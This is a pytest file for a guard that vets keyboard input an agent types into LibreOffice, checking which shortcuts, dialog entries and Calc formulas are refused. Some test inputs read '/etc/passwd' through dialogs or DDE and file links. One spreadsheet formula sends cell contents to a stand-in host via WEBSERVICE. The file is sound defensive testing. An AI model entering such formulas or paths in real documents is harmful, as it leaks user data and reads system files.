import pytest

from lamwright.environments.linux.x11.keys import chord_of, parse_keys
from lamwright.guard.guard import Guard
from lamwright.records.action import KeyboardInput
from lamwright.records.observation import Control, Observation
from lamwright.safety.tables import libreoffice

WRITER, CALC = libreoffice("writer"), libreoffice("calc")


def verdict(keys, seen=None, table=WRITER, control=None):
    return Guard(table=table).decide(KeyboardInput(keys=keys), control, seen).verdict


@pytest.mark.parametrize(
    "keys",
    [
        "{CTRL+S}", "{ctrl+s}", "{CONTROL+S}", "{CTRL+S 1}", "{CTRL+CTRL+S}", "{SHIFT+CTRL+S}",
        "{CTRL+SHIFT+S}", "x{ctrl+shift+s}", "{SHIFT+ALT+F4}", "{ALT+F4}", "{ALT+F4 2}", "{CTRL+F4}",
        "{CTRL+W}", "{CTRL+Q}", "{CTRL+O}", "{CTRL+P}", "{CTRL+N}", "{CTRL+SHIFT+N}", "{ALT+F}a",
        "{ALT+F}", "{ALT+I}{DOWN 3}{ENTER}", "{F10}", "{F10}{DOWN}{ENTER}", "{SHIFT+F10}", "{F6}",
        "{SHIFT+F6}{ENTER}", "{CTRL+F6}", "{SHIFT+ESC}", "{SHIFT+ESC}save as{ENTER}", "{ALT+F11}",
        "{ALT+F12}", "{CTRL+SHIFT+Q}", "{CTRL+SHIFT+J}", "{F1}", "{CTRL+*}", "{ALT+TAB}",
        "{ALT+SPACE}", "{ALT+ESC}", "{CTRL+F3}", "{CTRL+SHIFT+F4}", "{ALT+CTRL+E}",
    ],
)  # fmt: skip
def test_refuses(keys):
    assert verdict(keys) == "refuse"


@pytest.mark.parametrize(
    "keys",
    [
        "hello{ENTER}", "Dear {SHIFT+A}da", "{CTRL+B}", "{CTRL+A}{DELETE}", "{CTRL+END}", "{TAB}",
        "{SHIFT+TAB}", "{CTRL+ENTER}", "{CTRL+SHIFT+ENTER}", "{SHIFT+END}", "{CTRL+Z}", "{CTRL+Y}",
        "{CTRL+C}{CTRL+V}", "{ESC}", "{HOME}{SHIFT+DOWN 2}", "{CTRL+1}", "{CTRL+F12}", "{F11}",
        "{CTRL+H}", "{ALT+LEFT}", "{ALT+ENTER}", "{{}{}}", "{PLUS}", "+", "ä", "=1+2", "a > b",
    ],
)  # fmt: skip
def test_allows(keys):
    assert verdict(keys) == "allow"


def test_all_spellings_of_a_chord_are_one():
    spellings = ("{CTRL+SHIFT+S}", "{shift+control+S}", "{CTRL+CTRL+SHIFT+s}", "{SHIFT+CTRL+S 1}")
    assert {chord_of(parse_keys(keys)[0]) for keys in spellings} == {"CTRL+SHIFT+S"}
    assert [chord_of(s) for s in parse_keys("{RETURN}{ESCAPE}{PAGEUP}{DEL}{CTRL+PLUS}ä")] == [
        "ENTER", "ESC", "PGUP", "DELETE", "CTRL++", "Ä",
    ]  # fmt: skip


def seen(role, name, *, path="Standard", dialogs=(), more=()):
    focused = Control(label=1, name=name, role=role, path=path)
    return Observation(controls=(focused, *more), focus=1, dialogs=dialogs)


@pytest.mark.parametrize(
    "keys", ["{ENTER}", "{SPACE}", " ", "\n", "{RIGHT}{ENTER}", "{TAB}{SPACE}"]
)
def test_keys_that_press_what_has_the_keyboard_do_what_it_does(keys):
    assert verdict(keys, seen("push button", "Save")) == "refuse"
    if keys in {"{ENTER}", "{SPACE}"}:
        assert verdict(keys, seen("toggle button", "Bold", path="Formatting")) == "allow"


def test_a_field_of_a_tool_bar_takes_text_and_enter():
    field = seen("text", "Font Name", path="Formatting")
    assert verdict("Liberation Sans{ENTER}", field) == "allow"
    assert verdict("{TAB}{ENTER}", field) == "refuse"


def test_an_open_menu_takes_keys():
    entries = [
        Control(label=2, name="Save...", role="menu item"),
        Control(label=3, name="Cut", role="menu item"),
    ]
    opened = Observation(controls=tuple(entries))
    assert verdict("{DOWN}{ENTER}", opened) == "refuse"
    assert verdict("s", opened) == "refuse"
    assert verdict("{ESC}", opened) == "allow"
    assert verdict("{DOWN}{ENTER}", Observation(controls=(entries[1],))) == "allow"


def test_what_a_dialog_opens_is_not_operated_blindly():
    field = seen("text", "Name", path="Section", dialogs=("Section",))
    button = seen("push button", "Browse...", path="Section", dialogs=("Section",))
    assert verdict("My section 1{ENTER}", field) == "allow"
    assert verdict("{TAB}{TAB}{ENTER}", field) == "allow"
    assert verdict("{SPACE}/etc/passwd{ENTER}", button) == "refuse"
    assert verdict("{TAB} /etc/passwd{ENTER}", field) == "refuse"
    assert verdict("{ALT+B}/etc/passwd{ENTER}", field) == "refuse"
    assert verdict("{CTRL+A}new{ENTER}", field) == "allow"


@pytest.mark.parametrize(
    "keys",
    [
        '=WEBSERVICE("http://example.org/"&A1){ENTER}',
        '=DDE("soffice";"/etc/passwd";"A1"){ENTER}',
        "='file:///etc/passwd'#$Sheet1.A1{ENTER}",
        "1{TAB}=A1&'/root/x.ods'#$S.A1{ENTER}",
    ],
)
def test_formulas_that_fetch_are_refused(keys):
    assert verdict(keys, table=CALC) == "refuse"
    assert verdict(keys, table=WRITER) == "allow"
    assert verdict("=SUM(A1:B2)/2{ENTER}", table=CALC) == "allow"
